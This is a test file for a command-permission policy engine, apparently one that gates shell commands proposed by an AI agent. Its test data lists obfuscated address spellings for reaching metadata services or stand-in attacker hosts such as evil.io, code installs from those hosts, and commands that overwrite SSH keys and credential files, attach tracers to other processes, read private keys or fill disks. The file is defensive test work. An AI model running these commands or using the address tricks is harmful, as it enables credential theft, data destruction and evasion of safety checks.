"""Tidy14: one notion of an address inside the site, and holes left by the last pass.

1. `aiperm_tui/policy/addresses.py::site_address` answers for both directions: the read
   convention lets an unknown tool talk to a server of the fleet only when the address
   is `internal` (`verbs._in_the_fleet`), and code from a `foreign` address is typed
   (`raising._foreign_code`), as is a proxy directive sending traffic to one
   (`toolbox._proxied_outside`). Where the two old tables disagreed, each side kept the
   stricter answer; the table below pins every spelling, and hypothesis checks that no
   spelling of an address is both the fleet's and foreign.
2. Holes the thirteenth pass noticed, each closed by class and asserted both ways:
   writing over a credential (a redirection, an output option, a copy, move or link onto
   it) is typed; a tracer attached to processes it did not start reads their data;
   `ethtool -w DEV data FILE` is judged by FILE; a VisiData command log from a temp
   folder runs unreviewed code; the destroy convention skips a declared option's value;
   OpenWrt's factory reset, fallocate's destructive modes and a disk-filling allocation
   are typed; a DNSSEC trust anchor or public DNSKEY is no secret.
"""

from __future__ import annotations

import pytest
from helpers.policy_corpus import rules_of, verdict
from hypothesis import given
from hypothesis import strategies as st

from aiperm_tui.config import Config
from aiperm_tui.policy import PolicyEngine
from aiperm_tui.policy.addresses import ipv4_number, site_address
from aiperm_tui.policy.raising import CODE_RULE
from aiperm_tui.policy.verbs import RULE as READ_RULE
from aiperm_tui.policy.verbs import _in_the_fleet

ENGINE = PolicyEngine(Config())

# (address, what site_address says); the fleet lets in only "internal", the raising
# side raises only "foreign".
ADDRESSES = [
    # IPv4, four decimal parts
    ("10.0.0.1", "internal"),
    ("172.16.0.1:80", "internal"),
    ("192.168.4.7:9000", "internal"),
    ("http://127.0.0.1:8000/x", "internal"),
    ("172.32.0.1", "foreign"),
    ("192.169.0.1", "foreign"),
    ("203.0.113.5", "foreign"),  # documentation: stands for the Internet
    ("100.64.0.9", "foreign"),  # shared CGNAT space: another customer's
    ("0.0.0.0", "foreign"),
    ("10.0.0.999", "foreign"),  # no address: a name whose last label is `999`
    ("169.254.1.1", "unknown"),  # link-local
    ("169.254.169.254", "unknown"),  # the metadata service: never the fleet's
    ("10.0.0.010", "unknown"),  # a private address, but not written plainly
    # short forms: the last part fills the remaining bytes
    ("10.1", "unknown"),
    ("127.1", "unknown"),
    ("203.0.29957", "foreign"),
    # hex
    ("0x7f.0.0.1", "unknown"),
    ("0x0a000001", "unknown"),
    ("https://0xcb.0.0x71.5/x", "foreign"),
    # octal
    ("0177.0.0.1", "unknown"),
    ("012.0.0.1", "unknown"),  # 10.0.0.1
    ("010.0.0.1", "foreign"),  # 8.0.0.1
    ("172.016.0.1", "foreign"),  # 172.14.0.1
    ("0313.0.0161.5", "foreign"),
    # one decimal number
    ("167772161", "unknown"),  # 10.0.0.1
    ("http://3405803781/x", "foreign"),  # 203.0.113.5
    ("http://2852039166/", "unknown"),  # 169.254.169.254
    ("123", "foreign"),  # 0.0.0.123
    # IPv6
    ("[::1]", "unknown"),
    ("http://[fe80::1%25eth0]:80/", "unknown"),
    ("[fd00::5]", "unknown"),  # unique local
    ("[fd00:ec2::254]", "unknown"),  # the metadata service
    ("[2001:db8::5]:8443", "foreign"),  # documentation
    ("[2606:4700::1111]", "foreign"),
    ("[::ffff:10.0.0.1]", "unknown"),
    ("[::ffff:a9fe:a9fe]", "unknown"),
    ("[::ffff:203.0.113.5]", "foreign"),
    ("[zz::1]", "foreign"),  # unreadable: no one's to vouch for
    ("fe80::1", "unknown"),  # unbracketed: no URL reads it
    # names, the internal or reserved label last
    ("localhost:8080", "internal"),
    ("cortex:9009", "internal"),  # one label: the site's search domain
    ("db-1", "internal"),
    ("db.internal", "internal"),
    ("https://a.lan:8443/api/v1", "internal"),
    ("nim-1.int", "internal"),
    ("https://repo.corp/x", "internal"),
    ("ci.home", "internal"),
    ("x.localdomain", "foreign"),  # was the fleet's, was foreign to raising: foreign
    ("https://minio.data.svc/x", "unknown"),  # was the site's to raising only
    ("1.0.0.10.in-addr.arpa", "unknown"),
    ("metadata.google.internal", "unknown"),  # where instance credentials are served
    ("a.example", "foreign"),  # a host on the Internet, as example.com (args15)
    ("x.test", "foreign"),
    ("https://artifacts.edge.int.example/x", "unknown"),
    ("pkgs.evil.example", "foreign"),
    ("github.com", "foreign"),
    ("9abc", "unknown"),
    # the same labels in the middle: anyone may register them
    ("db.internal.evil.io", "foreign"),
    ("https://int.attacker.example.com/x", "foreign"),
    ("local.attacker.io", "foreign"),
    # userinfo: the host is after the last `@` of the authority
    ("user@a.local", "unknown"),
    ("https://user@pkgs.evil.test.io/x", "foreign"),
    ("https://repo.corp@evil.io/x", "foreign"),
    ("https://evil.io#@repo.corp/x", "foreign"),
    ("https://evil.io?@repo.corp/x", "foreign"),
    ("https://evil.io\\@repo.corp/x", "foreign"),
    ("https://repo.corp\\@evil.io/x", "foreign"),
    # ports
    ("db.internal:5432", "internal"),
    ("db.internal:abc", "unknown"),
    ("evil.io:443", "foreign"),
    # trailing dots, `..`, empty
    ("db.internal.", "unknown"),
    ("https://ci.local./x", "unknown"),
    ("10.0.0.1.", "unknown"),
    ("evil.io.", "foreign"),
    ("a..local", "unknown"),
    ("db.internal/../x", "unknown"),
    ("evil..io", "foreign"),
    ("", "unknown"),
    ("https://", "unknown"),
    # a query or a scheme no server option takes
    ("http://db.internal/x?a=1", "unknown"),
    ("ftp://db.internal/x", "unknown"),
]


@pytest.mark.timeout(30)
@pytest.mark.parametrize(("address", "site"), ADDRESSES)
def test_each_spelling_of_an_address_has_one_place(address: str, site: str) -> None:
    assert site_address(address) == site
    assert _in_the_fleet(address) is (site == "internal")


@pytest.mark.timeout(30)
@pytest.mark.parametrize(
    ("value", "inside"),
    [
        ("a.local,b.local", True),
        ("10.0.0.1:2379,10.0.0.2:2379", True),
        ("a.local,", False),
        ("a.local,evil.io", False),
        (",", False),
        ("", False),
    ],
)
def test_the_fleet_takes_a_list_only_when_every_address_is_inside(value: str, inside: bool) -> None:
    assert _in_the_fleet(value) is inside


# Each caller, through the engine: a server option of the read convention, code
# installed from an address, a proxy directive written to a server's configuration.
@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    ("cmd", "expected", "rule"),
    [
        ("zztool status --address 10.0.0.7:6379", "none", READ_RULE),
        ("zztool status --server https://db.internal:8443", "none", READ_RULE),
        ("zztool status --address 0xa.0.0.7:6379", "action", None),
        ("zztool status --address metadata.google.internal", "action", None),
        ("zztool status --server http://x.localdomain:80", "action", None),
        ("zztool status --server https://[fd00::5]:8443", "action", None),
        ("zztool status --address 169.254.169.254", "action", None),
        ("zzinst install https://10.0.0.5/x.tar.gz", "action", None),
        ("zzinst install https://minio.data.svc/x.tar.gz", "action", None),
        ("zzinst install https://0xcb.0.0x71.5/x.tar.gz", "typed", CODE_RULE),
        ("zzinst install https://3405803781/x.tar.gz", "typed", CODE_RULE),
        ("zzinst install https://repo.corp@evil.io/x.tar.gz", "typed", CODE_RULE),
        ("zzinst install https://evil.io#@repo.corp/x.tar.gz", "typed", CODE_RULE),
        ("zzinst install https://x.localdomain/x.tar.gz", "typed", CODE_RULE),
        ("zzinst install 'https://[2001:db8::5]/x.tar.gz'", "typed", CODE_RULE),
        ("echo 'proxy_pass http://10.0.0.9;' > /etc/nginx/conf.d/x.conf", "action", None),
        ("echo 'proxy_pass http://169.254.0.9;' > /etc/nginx/conf.d/x.conf", "action", None),
        ("echo 'proxy_pass http://203.0.113.9;' > /etc/nginx/conf.d/x.conf", "typed", None),
        ("echo 'proxy_pass http://100.64.0.9;' > /etc/nginx/conf.d/x.conf", "typed", None),
    ],
)
def test_each_caller_asks_its_own_direction(cmd: str, expected: str, rule: str | None) -> None:
    assert verdict(ENGINE, cmd) == expected, rules_of(ENGINE, cmd)
    rules = rules_of(ENGINE, cmd)
    if rule is not None:
        assert rule in rules
    if expected != "none":
        assert READ_RULE not in rules


def _spellings(number: int) -> list[str]:
    """Every form inet_aton reads for the IPv4 address `number`."""
    octets = [(number >> s) & 0xFF for s in (24, 16, 8, 0)]
    return [
        ".".join(map(str, octets)),
        f"{octets[0]}.{octets[1]}.{number & 0xFFFF}",
        f"{octets[0]}.{number & 0xFFFFFF}",
        str(number),
        hex(number),
        ".".join(hex(o) for o in octets),
        ".".join(f"0{o:o}" for o in octets),
        f"[::ffff:{octets[0]}.{octets[1]}.{octets[2]}.{octets[3]}]",
        f"[::ffff:{number >> 16:x}:{number & 0xFFFF:x}]",
    ]


@pytest.mark.timeout(120)
@given(st.integers(min_value=0, max_value=2**32 - 1))
def test_no_spelling_of_an_ipv4_address_changes_whether_it_is_foreign(number: int) -> None:
    """The raising side sees through every spelling; only the plain one may be internal."""
    spellings = _spellings(number)
    assert {ipv4_number(s) for s in spellings} == {number}
    foreign = {site_address(f"https://{s}/x") == "foreign" for s in spellings}
    assert len(foreign) == 1, spellings
    assert not any(_in_the_fleet(s) for s in spellings[1:])


_LABEL = st.sampled_from(
    [
        *("db", "evil", "int", "internal", "local", "lan", "corp", "svc", "arpa", "example"),
        *("test", "localdomain", "io", "com", "10", "0x7f", "0", "1", "", "metadata", "google"),
    ]
)
_HOST = st.one_of(
    st.lists(_LABEL, min_size=1, max_size=4).map(".".join),
    st.integers(0, 2**32 - 1).flatmap(lambda n: st.sampled_from(_spellings(n))),
    st.sampled_from(["[::1]", "[fd00::5]", "[2001:db8::5]", "[::ffff:10.0.0.1]", "[x]"]),
)
_ADDRESS = st.builds(
    lambda scheme, user, host, dot, port, tail: f"{scheme}{user}{host}{dot}{port}{tail}",
    st.sampled_from(["", "https://", "tcp://", "ftp://"]),
    st.sampled_from(["", "ops@", "db.internal@", "evil.io\\@"]),
    _HOST,
    st.sampled_from(["", "."]),
    st.sampled_from(["", ":8443", ":x"]),
    st.sampled_from(["", "/x", "/../x", "?q=1", "#@db.internal", "@evil.io"]),
)


@pytest.mark.timeout(120)
@given(_ADDRESS)
def test_no_address_is_both_the_fleet_s_and_foreign(address: str) -> None:
    """The two directions never both say yes, and the fleet's is always plainly so."""
    inside, foreign = _in_the_fleet(address), site_address(address) == "foreign"
    assert not (inside and foreign), address
    if inside:
        assert "@" not in address and "\\" not in address and not address.startswith("ftp")


def _judged(cmd: str, expected: str, rule: str | None) -> None:
    """`cmd` gets `expected` under ops_safe, and `rule` among its findings (None: any)."""
    assert verdict(ENGINE, cmd) == expected, (cmd, rules_of(ENGINE, cmd))
    if rule is not None:
        assert rule in rules_of(ENGINE, cmd), (cmd, rules_of(ENGINE, cmd))


def _not_by(cmd: str, expected: str, rule: str) -> None:
    """`cmd` gets `expected`, and `rule` is not what found it."""
    assert verdict(ENGINE, cmd) == expected, (cmd, rules_of(ENGINE, cmd))
    assert rule not in rules_of(ENGINE, cmd), (cmd, rules_of(ENGINE, cmd))


# 2a. writing over a credential destroys it, whatever writes it
@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    ("cmd", "rule"),
    [
        ("openssl rsa -in k.pem -pubout -out ~/.ssh/id_rsa", "fs.write"),
        ("openssl rsa -in k.pem -pubout -out ~/.pgpass", "fs.write"),
        ("openssl rsa -in k.pem -pubout -out /etc/ssl/private/site.key", "fs.write"),
        ("echo x > ~/.ssh/id_ed25519", "fs.write"),
        ("echo x > ~/.pgpass", "fs.write"),
        ("echo x > ~/.netrc", "fs.write"),
        ("kubectl config view > ~/.kube/config", "fs.write"),
        ("printf x >| ~/.docker/config.json", "fs.write"),
        ("base64 -d x > /etc/ssl/private/server.key", "fs.write"),
        ("sed -n p x > /etc/kubernetes/admin.conf", "fs.write"),
        ("ethtool -w eth0 data ~/.pgpass", "fs.write"),
        ("openssl req -new -newkey rsa:2048 -nodes -keyout ~/.pgpass -out n.csr", "fs.write"),
        ("mv x ~/.pgpass", "fs.credential_replaced"),
        ("mv /srv/new.key /etc/ssl/private/site.key", "fs.credential_replaced"),
        ("ln -sf /dev/null ~/.netrc", "fs.credential_replaced"),
        ("rsync -a x ~/.kube/config", "fs.credential_replaced"),
    ],
)
def test_writing_over_a_credential_is_typed(cmd: str, rule: str) -> None:
    _judged(cmd, "typed", rule)


@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    ("cmd", "expected"),
    [
        ("echo x >> ~/.pgpass", "action"),  # an append adds a line
        ("touch ~/.pgpass", "action"),
        ("mv ~/.pgpass ~/.pgpass.bak", "action"),  # moved away, not lost
        ("echo x > ~/.ssh/known_hosts", "action"),
        ("openssl x509 -in c.pem -out /etc/ssl/certs/x.crt", "action"),
        ("openssl rsa -in k.pem -pubout -out /etc/ssl/x.pub", "action"),
        ("mv x.crt /etc/ssl/certs/x.crt", "action"),
        ("mv x /tmp/y.key", "action"),  # a temp folder is no credential store
        # a key the tool generates, to a file named as a key: a new key pair (eighth pass)
        ("openssl req -new -newkey rsa:2048 -nodes -keyout /etc/ssl/private/n.key", "action"),
        ("echo x > /srv/app/config.txt", "action"),
    ],
)
def test_writing_beside_a_credential_keeps_its_level(cmd: str, expected: str) -> None:
    _not_by(cmd, expected, "fs.credential_replaced")
    assert "replacing a credential" not in ENGINE.decide(cmd).reason


# 2b. a tracer attached to processes it did not start reads their data
@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    ("cmd", "rule"),
    [
        ("strace -s 256 -p 1234", "strace.attach"),
        ("strace -p1234", "strace.attach"),
        ("sudo strace --attach=1234 -e trace=read -s 4096", "strace.attach"),
        ("strace -ff -tt -s 256 -o /var/tmp/api-trace -p 30411", "strace.attach"),
        ("ltrace -p 1234", "strace.attach"),
        ("perf trace -p 1234", "perf.trace_attach"),
        ("perf trace --pid=1234 -e write", "perf.trace_attach"),
        ("perf trace -u postgres", "perf.trace_attach"),
        ("perf trace -a -- sleep 10", "perf.trace_attach"),
        ("perf trace", "perf.trace_system"),
        ("perf trace -e openat,write", "perf.trace_system"),
        ("gdb -p 1234", "memory.process_dump"),
    ],
)
def test_a_tracer_attached_to_another_process_reads_its_data(cmd: str, rule: str) -> None:
    _judged(cmd, "typed", rule)


@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    ("cmd", "expected"),
    [
        ("strace -c -p 1234", "none"),  # counts only
        ("timeout 10 ltrace -c -p 30411", "none"),
        ("perf trace -s -p 1234", "none"),
        ("perf trace -s", "none"),
        ("perf trace -- ls /srv", "none"),  # its own child
        ("perf trace -e write -- ./bench", "action"),
        ("perf top -p 1234", "none"),
        ("strace -f -e trace=network -o /tmp/curl.trace curl -s https://x.example/", "none"),
    ],
)
def test_a_tracer_of_its_own_child_or_a_summary_stays_as_it_was(cmd: str, expected: str) -> None:
    for rule in ("strace.attach", "perf.trace_attach", "perf.trace_system"):
        _not_by(cmd, expected, rule)


# 2c. ethtool's dump is judged by the file it writes; a VisiData log from a temp folder
@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    ("cmd", "expected", "rule"),
    [
        ("ethtool -w eth0 data /etc/passwd", "typed", "fs.write"),
        ("ethtool --get-dump eth0 data /root/.bashrc", "typed", "fs.write"),
        ("ethtool -w eth0 data /srv/x.bin", "action", "fs.write"),
        ("ethtool -w eth0 data /tmp/dump", "none", None),  # a fresh report in /tmp
        ("ethtool -w eth0", "none", None),  # prints the dump's flag
        ("ethtool -W eth0 1", "action", "net.ethtool"),  # sets it
        ("vd -p /tmp/x.vdj", "typed", "visidata.run_temp"),
        ("vd -b --play=/var/tmp/x.vdj", "typed", "visidata.run_temp"),
        ("visidata x.csv --config /dev/shm/x.py", "typed", "visidata.run_temp"),
        ("vd -p /srv/reports/x.vdj", "action", "visidata.run"),
        ("vd /tmp/x.csv", "none", None),
    ],
)
def test_ethtool_dumps_and_visidata_logs_are_judged_by_their_file(
    cmd: str, expected: str, rule: str | None
) -> None:
    _judged(cmd, expected, rule)
    if expected != "typed":
        assert "visidata.run_temp" not in rules_of(ENGINE, cmd)


# 2d. the destroy convention skips the value of an option the tool declares takes one
@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    ("cmd", "expected", "rule"),
    [
        ("myloader -d /srv/backup/app -B app_restore", "action", None),
        ("myloader --database app_restore -d /x", "action", None),
        ("myloader -Bapp_restore -d /x", "action", None),
        ("myloader -d /srv/dump -o -B shop", "typed", "mysql_load.overwrite"),
        ("zztool --server delete", "typed", "unknown.destroy_verb"),  # undeclared
        ("zztool -x delete", "typed", "unknown.destroy_verb"),
        ("zztool delete", "typed", "unknown.destroy_verb"),
    ],
)
def test_a_declared_option_value_is_no_verb(cmd: str, expected: str, rule: str | None) -> None:
    _judged(cmd, expected, rule)
    if rule is None:
        assert "unknown.destroy_verb" not in rules_of(ENGINE, cmd)


# 2e. a factory reset, fallocate's destructive modes and a disk-filling allocation
@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    ("cmd", "rule"),
    [
        ("firstboot -y", "openwrt.factory_reset"),
        ("firstboot", "openwrt.factory_reset"),
        ("ssh root@edge-3 firstboot -y", "openwrt.factory_reset"),
        ("sysupgrade -n /srv/fw/openwrt-sysupgrade.bin", "openwrt.upgrade_discarding_config"),
        ("fallocate -p -o 0 -l 1G /var/lib/mysql/ibdata1", "fallocate.destroy_range"),
        ("fallocate --collapse-range -o 0 -l 4096 /srv/db/x.db", "fallocate.destroy_range"),
        ("fallocate -z -l 1M /srv/x.img", "fallocate.destroy_range"),
        ("fallocate -l 200G /var/lib/kafka/data/.fill", "fallocate.fill_disk"),
        ("fallocate -l200G /x", "fallocate.fill_disk"),
        ("fallocate --length=2T /srv/x", "fallocate.fill_disk"),
        ("fallocate -l 150000M /x", "fallocate.fill_disk"),
    ],
)
def test_a_reset_or_a_disk_filled_is_typed(cmd: str, rule: str) -> None:
    _judged(cmd, "typed", rule)


@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    ("cmd", "expected"),
    [
        ("firstboot --help", "none"),
        ("sysupgrade -T -n /srv/fw.bin", "action"),
        ("sysupgrade /srv/fw.bin", "action"),
        ("fallocate -l 2G /swapfile", "action"),
        ("fallocate -l 99G /x", "action"),
        ("fallocate -l 2G /var/tmp/loadtest.bin", "action"),
        ("fallocate -d /srv/x.img", "action"),  # dig holes: zeros stay zeros
    ],
)
def test_an_ordinary_allocation_or_upgrade_stays_a_change(cmd: str, expected: str) -> None:
    assert verdict(ENGINE, cmd) == expected, rules_of(ENGINE, cmd)
    assert not {r for r in rules_of(ENGINE, cmd) if r.startswith(("fallocate.", "openwrt."))}


# 2f. a public `.key`: a DNSSEC trust anchor, a public DNSKEY
@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    ("cmd", "expected"),
    [
        ("cat /var/lib/unbound/root.key", "none"),
        ("cat /usr/share/dns/root.key", "none"),
        ("cat /etc/unbound/root.key", "none"),
        ("cat /etc/bind/keys/Kexample.com.+013+12345.key", "none"),
        ("cat /etc/unbound/unbound_server.key", "typed"),
        ("cat /etc/unbound/unbound_control.key", "typed"),
        ("cat /etc/bind/keys/Kexample.com.+013+12345.private", "typed"),
        ("cat /etc/bind/Ktsig.example.com.+165+12345.key", "typed"),  # HMAC: the secret
        ("cat /etc/bind/Ktsig.example.com.+157+12345.key", "typed"),
        ("cat /etc/bind/private/Kexample.com.+013+12345.key", "typed"),
        ("cat ~/.ssh/Kx.+013+12345.key", "typed"),
        ("cat /srv/root.key", "typed"),
        ("cat root.key", "typed"),
        ("cat /var/lib/unbound/../../../root/.ssh/root.key", "typed"),
    ],
)
def test_a_public_key_file_is_no_secret(cmd: str, expected: str) -> None:
    assert verdict(ENGINE, cmd) == expected, rules_of(ENGINE, cmd)
    assert ("secret.read" in rules_of(ENGINE, cmd)) is (expected == "typed")
